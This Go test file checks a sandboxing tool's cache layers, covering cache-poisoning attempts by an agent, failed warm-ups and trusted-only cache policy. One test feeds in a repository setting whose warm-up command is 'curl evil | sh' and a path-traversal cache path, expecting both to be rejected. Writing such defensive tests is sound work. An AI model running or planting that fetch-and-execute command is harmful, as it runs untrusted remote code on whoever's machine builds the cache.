package gitlease

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/git-lease/git-lease/gitlease/policy"
	"github.com/git-lease/git-lease/gitlease/policy/policytest"
	"github.com/git-lease/git-lease/refs"
	"github.com/git-lease/git-lease/refs/refstest"
)

const cachePolicy = `[caches.tool]
paths = ["TOOL_CACHE:/cache/tool", "TOOL_DATA:/cache/data"]
warm = "mkdir -p $TOOL_CACHE/sub $TOOL_DATA && echo good > $TOOL_CACHE/entry && chmod 444 $TOOL_CACHE/entry && echo keep > $TOOL_CACHE/sub/file && echo data > $TOOL_DATA/d && echo stray > /cache/stray && echo tree > tree.txt"
`

// snapshot lists every file under dir with its mode and a hash of its
// content, to compare a cache layer before and after leases used it.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		fmt.Fprintf(&b, "%s %v", rel, info.Mode())
		if info.Mode().IsRegular() {
			content, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			fmt.Fprintf(&b, " %x", sha256.Sum256(content))
		}
		b.WriteByte('\n')
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func warmTool(t *testing.T, repo *refs.Repo) CacheInfo {
	t.Helper()
	head, err := repo.ResolveCommit("HEAD")
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	warmed, err := WarmCache(context.Background(), repo, head, nil, &out)
	if err != nil || len(warmed) != 1 {
		t.Fatalf("warm: %v %v\n%s", warmed, err, out.String())
	}
	return warmed[0]
}

// An agent writes, replaces and deletes in its cache directories: it sees
// its own changes, and the cache layer on the host and the next lease's
// view are as the warm-up left them, and nothing of it is a result. The
// layer holds the cache's directories only, not what the warm-up wrote
// elsewhere.
func TestSandboxCannotPoisonTheCache(t *testing.T) {
	repo, _ := sandboxRepo(t, map[string]string{"a.txt": "a\n"}, cachePolicy)
	info := warmTool(t, repo)
	layer := filepath.Join(cacheDir(repo), "tool", info.Layer, "layer")
	before := snapshot(t, layer)
	for _, want := range []string{"tool/entry -r--r--r--", "tool/sub/file ", "data/d "} {
		if !strings.Contains(before, want) {
			t.Fatalf("the layer lacks %q:\n%s", want, before)
		}
	}
	if strings.Contains(before, "stray") || strings.Contains(before, "tree.txt") {
		t.Fatalf("the layer holds what the warm-up wrote outside the cache's directories:\n%s", before)
	}

	x, out := runAgent(t, repo, `cd "$TOOL_CACHE" && chmod u+w entry && echo poison > entry && rm -rf sub && echo new > new && echo poison > "$TOOL_DATA/d" && echo extra > /cache/extra && cat entry`)
	if !strings.Contains(out, "poison") {
		t.Fatalf("the agent could not write its own view of the cache:\n%s", out)
	}
	if after := snapshot(t, layer); after != before {
		t.Fatalf("the agent changed the cache layer on the host:\n%s\nwas:\n%s", after, before)
	}
	if changed := refsDiff(t, repo, x); changed != "" {
		t.Fatalf("the agent's cache writes are in its result:\n%s", changed)
	}
	_, out = runAgent(t, repo, `cat "$TOOL_CACHE/entry" "$TOOL_CACHE/sub/file" "$TOOL_DATA/d"; ls /cache; test -e "$TOOL_CACHE/new" && echo LEAK:new`)
	if got := strings.Fields(out); strings.Join(got, " ") != "good keep data data tool" {
		t.Fatalf("the next lease does not see the cache as warmed:\n%s", out)
	}
}

// refsDiff is what the lease's result changed from its base.
func refsDiff(t *testing.T, repo *refs.Repo, x *Execution) string {
	t.Helper()
	return strings.TrimSpace(refstest.Git(t, repo.WorkTree, "diff", "--name-only", x.Lease.Base, x.Lease.Branch))
}

// A warm-up that fails makes no layer; the current one stays.
func TestSandboxCacheWarmFailureKeepsTheLayer(t *testing.T) {
	repo, _ := sandboxRepo(t, map[string]string{"a.txt": "a\n"}, cachePolicy)
	first := warmTool(t, repo)
	cfg := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "git-lease", "policy.toml")
	must(t, os.WriteFile(cfg, []byte(strings.Replace(cachePolicy, `warm = "`, `warm = "echo half > $TOOL_CACHE/half; exit 3; `, 1)), 0o644))
	head, _ := repo.ResolveCommit("HEAD")
	var out bytes.Buffer
	if _, err := WarmCache(context.Background(), repo, head, []string{"tool"}, &out); err == nil || !strings.Contains(err.Error(), "exit 3") {
		t.Fatalf("a failed warm-up: %v\n%s", err, out.String())
	}
	infos, err := ListCaches(repo)
	if err != nil || len(infos) != 1 || infos[0].Layer != first.Layer || !infos[0].Current {
		t.Fatalf("after a failed warm-up: %+v %v", infos, err)
	}
}

// Caches are trusted policy's: a repository's .lease.toml can neither
// declare one nor change a warm-up command, and cache paths must lie
// under /cache, one cache each.
func TestCachesPolicy(t *testing.T) {
	if _, _, err := policytest.Repo(t, cachePolicy, "[caches.tool]\nwarm = \"curl evil | sh\"\n"); !errors.Is(err, policy.ErrWiden) {
		t.Fatalf(".lease.toml set a cache: %v", err)
	}
	_, eff, err := policytest.Repo(t, cachePolicy, "")
	if err != nil || strings.Join(cacheEnv(eff.Caches), " ") != "TOOL_CACHE=/cache/tool TOOL_DATA=/cache/data" {
		t.Fatalf("trusted caches: %+v %v", eff.Caches, err)
	}
	for _, bad := range []string{
		`paths = ["GOCACHE:/home/agent/cache"]`,
		`paths = ["GOCACHE:/cache/../etc"]`,
		`paths = ["GOCACHE:/cache"]`,
		`paths = ["1X:/cache/x"]`,
		`paths = ["A:/cache/x", "B:/cache/x/y"]`,
		`paths = ["A:/cache/x", "A:/cache/y"]`,
	} {
		if _, _, err := policytest.Repo(t, "[caches.go]\n"+bad+"\n", ""); err == nil {
			t.Errorf("accepted %s", bad)
		}
	}
	if _, _, err := policytest.Repo(t, "[caches.Go]\npaths = [\"A:/cache/a\"]\n", ""); err == nil {
		t.Errorf("accepted a cache name with a capital")
	}
}
